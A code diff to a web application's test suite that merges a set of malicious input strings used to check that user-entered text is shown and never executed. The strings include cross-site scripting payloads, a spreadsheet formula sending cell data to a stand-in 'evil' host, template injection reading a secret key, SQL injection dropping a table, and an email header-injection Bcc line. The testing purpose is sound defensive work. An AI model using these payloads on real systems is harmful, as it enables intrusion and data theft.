@@ -18,18 +18,20 @@ from tests.web.routes import address, ask, routes
 from tests.web.world import Web
 
 SCRIPT = "<script>alert(1)</script>"
+CODE = " ".join(
+    [
+        SCRIPT,
+        '"><img src=x onerror=alert(1)>',
+        '=HYPERLINK("http://evil/?"&A1)',
+        "{{ config.SECRET_KEY }}{% for x in range(10**9) %}a{% endfor %}",
+        "%(name)1000000000d {0.__class__} %s",
+        "'; DROP TABLE contact; --",
+    ]
+)
 TEXTS = {
-    "script": SCRIPT,
-    "image": '"><img src=x onerror=alert(1)>',
-    "formula": '=HYPERLINK("http://evil/?"&A1)',
-    "template": "{{ config.SECRET_KEY }}{% for x in range(10**9) %}a{% endfor %}",
-    "format": "%(name)1000000000d {0.__class__} %s",
-    "rtl": "invoice\u202egpj.exe",
-    "line breaks": "Straße 1, \r\nBcc: x@evil.example",
-    "emoji": "👩‍👩‍👧‍👦" * 50,
-    "combining": "z" + "\u0301" * 500,
+    "code": CODE,
+    "signs": "Straße 1, \r\nBcc: x@evil.example invoice\u202egpj.exe z" + "\u0301" * 500 + "👩‍👩‍👧‍👦" * 50,
     "long": "x" * 10_000,
-    "sql": "'; DROP TABLE contact; --",
     "number": "9" * 400,
     "not a number": "NaN",
     "negative": "-1",
@@ -212,7 +214,7 @@ def test_no_trick_with_a_path_finds_anything(web: Web, path: str) -> None:
 
 def test_what_people_typed_is_shown_and_does_not_run(web: Web) -> None:
     """Names, addresses and answers go onto the pages of everybody else."""
-    texts = " ".join(TEXTS[name] for name in ("script", "image", "template", "format", "rtl"))
+    texts = TEXTS["code"] + TEXTS["signs"]
     with web.factory.begin() as session:
         for who, belongings in web.belongings.items():
             contact = session.get_one(Contact, web.people[who].id)
